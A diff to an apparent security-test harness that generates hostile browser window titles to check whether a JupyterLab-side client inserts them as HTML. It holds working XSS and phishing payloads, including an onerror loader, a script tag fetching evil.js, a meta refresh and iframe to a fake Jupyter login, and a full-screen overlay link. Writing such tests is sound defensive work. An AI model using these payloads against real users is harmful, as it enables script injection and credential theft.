@@ -36,9 +36,16 @@ def _loader(port: int, via: str) -> str:
     )
 
 
+MAX_TITLE = 230
+"""Window titles reach the client cut at 256 characters (Firefox adds " — Mozilla Firefox")."""
+
+
 def title_payloads(port: int) -> dict[str, str]:
-    """Window titles a hostile page sets, by name: each runs script if inserted as HTML."""
-    return {
+    """Window titles a hostile page sets, by name: each does harm if inserted as HTML.
+
+    Each is at most MAX_TITLE characters, so that it reaches the client whole.
+    """
+    payloads = {
         "img": f'<img src=x onerror="{_loader(port, "img")}">',
         "script": f"<script src=http://127.0.0.1:{port}/evil.js?via=script></script>",
         "link": (
@@ -55,14 +62,19 @@ def title_payloads(port: int) -> dict[str, str]:
         ),
         # No script at all: markup that takes the Firefox tab's frame to the attacker's page
         # (a fake Jupyter login inside JupyterLab), by itself or at the user's first click.
-        # Last: where it works, the views show the attacker's page from then on.
-        "navigate": (
+        # Last: where they work, the views show the attacker's page from then on.
+        "refresh": (
             f'<meta http-equiv=refresh content="0;url=http://127.0.0.1:{port}/phish?via=refresh">'
             f"<iframe src=http://127.0.0.1:{port}/phish?via=iframe></iframe>"
+        ),
+        "navlink": (
             f'<a href="http://127.0.0.1:{port}/phish?via=navlink" '
             'style="position:fixed;inset:0;display:block;z-index:99999">Firefox</a>'
         ),
     }
+    too_long = [name for name, title in payloads.items() if len(title) > MAX_TITLE]
+    assert not too_long, f"payloads too long to reach the client whole: {too_long}"
+    return payloads
 
 
 EVIL_JS = r"""
